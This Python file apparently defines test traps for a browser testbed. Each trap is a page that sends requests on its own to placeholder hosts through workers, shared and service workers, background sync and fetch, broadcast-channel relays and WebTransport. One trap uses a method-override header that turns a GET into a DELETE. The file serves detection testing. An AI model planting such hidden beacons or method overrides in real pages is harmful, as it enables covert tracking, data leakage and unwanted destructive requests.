"""Workers of every kind that send by themselves: in workers, in frames, shared, and services."""

from testbed.traps.trap import HEAD, Origin, Page, Trap, form, trap

_BLOB = "URL.createObjectURL(new Blob([`%s`],{type:'text/javascript'}))"


def _worker(script: str, kind: str = "Worker") -> str:
    """Return the script of a page that runs a script in a worker."""
    return f"window.w=new {kind}({_BLOB % script})"


_POSTS = "fetch('@d@',{method:'POST',mode:'no-cors',body:'nop=1'})"
_SOCKET = "const s=new WebSocket('@ws@');s.onopen=()=>s.send('nop=1')"
_INSTALLS = "navigator.serviceWorker.register('@at@/sw.js',{scope:'/'}).then(()=>navigator.serviceWorker.ready).then(r=>{window.r=r;%s})"


def _served(script: str) -> dict[str, Page]:
    return {"sw.js": Page(text=script, media_type="text/javascript")}


TRAPS: tuple[Trap, ...] = (
    trap("g15", "a worker opens a socket and sends a message", form(script=_worker(_SOCKET))),
    trap(
        "g16",
        "a worker in a worker posts",
        form(script=_worker("new Worker('data:text/javascript,'+encodeURIComponent(\"" + _POSTS + '"))')),
    ),
    trap(
        "g17",
        "a worker posts with a synchronous XMLHttpRequest",
        form(script=_worker("const x=new XMLHttpRequest();x.open('POST','@d@',false);x.send('nop=1')")),
    ),
    trap(
        "g29",
        "a shared worker of a srcdoc frame's realm posts",
        form(
            after='<iframe id=i srcdoc="<p>x"></iframe>',
            script=f"i.onload=()=>new i.contentWindow.SharedWorker({_BLOB % _POSTS})",
        ),
    ),
    trap(
        "g30",
        "a service worker posts when it is installed and asks for background sync",
        form(script=_INSTALLS % "r.sync&&r.sync.register('x')"),
        more=_served(f"oninstall=()=>{{{_POSTS}}};onsync=()=>{{{_POSTS}}}"),
        origin=Origin.SECURE,
    ),
    trap(
        "g31",
        "a background fetch posts",
        form(
            script=_INSTALLS % "r.backgroundFetch.fetch('x',[new Request('@d@',{method:'POST',body:'x'})],{title:'x'})"
        ),
        more=_served("onfetch=()=>{}"),
        origin=Origin.SECURE,
        unproved="a headless shell has nobody to show a background fetch to, and begins none",
    ),
    trap(
        "deepworker",
        "a worker in a worker opens a socket from a module that it imports",
        form(script=_worker("new Worker('@at@/inner.js',{type:'module'})")),
        more={
            "inner.js": Page(text="import('@at@/innermost.js')", media_type="text/javascript"),
            "innermost.js": Page(text=_SOCKET, media_type="text/javascript"),
        },
    ),
    trap(
        "moduleworker",
        "a module worker posts from a timer",
        form(script=f"new Worker({_BLOB % ('setInterval(()=>' + _POSTS + ',200)')},{{type:'module'}})"),
    ),
    trap("sharedsocket", "a shared worker opens a socket", form(script=_worker(_SOCKET, "SharedWorker"))),
    trap(
        "shareddata",
        "a shared worker with a data: address posts",
        form(script='new SharedWorker("data:text/javascript,' + _POSTS + '")'),
    ),
    trap(
        "sandboxworker",
        "a worker of a sandboxed frame of no origin opens a socket",
        form(after=f'<iframe sandbox="allow-scripts" srcdoc="<script>{_worker(_SOCKET)}</script>"></iframe>'),
    ),
    trap(
        "relay",
        "a broadcast channel has a frame send what it hears",
        form(
            after="<iframe id=i src='@at@/inner'></iframe>",
            script="i.onload=()=>new BroadcastChannel('x').postMessage('nop')",
        ),
        more={"inner": f"{HEAD}<script>new BroadcastChannel('x').onmessage=()=>{_POSTS}</script>"},
    ),
    trap(
        "serviceposts",
        "a service worker that is sent a message posts it",
        form(script=_INSTALLS % "r.active.postMessage('nop')"),
        more=_served(f"onactivate=e=>e.waitUntil(clients.claim());onmessage=e=>e.waitUntil({_POSTS})"),
        origin=Origin.SECURE,
    ),
    trap(
        "servicefetch",
        "a service worker makes a picture's GET into a POST",
        form(script=_INSTALLS % "setTimeout(()=>new Image().src='@at@/anh.png',300)"),
        more=_served(
            f"onactivate=e=>e.waitUntil(clients.claim());onfetch=e=>{{if(e.request.url.endsWith('.png'))e.respondWith({_POSTS})}}"
        ),
        origin=Origin.SECURE,
    ),
    trap(
        "transportworker",
        "WebTransport of a worker sends datagrams",
        form(script=_worker("new WebTransport('https://127.0.0.1:@udp@/x')")),
        origin=Origin.SECURE,
    ),
    trap(
        "methodheader",
        "X-Method-Override in a GET of a worker",
        form(script=_worker("fetch('@d@',{headers:{'X-HTTP-Method-Override':'DELETE'}})")),
    ),
)
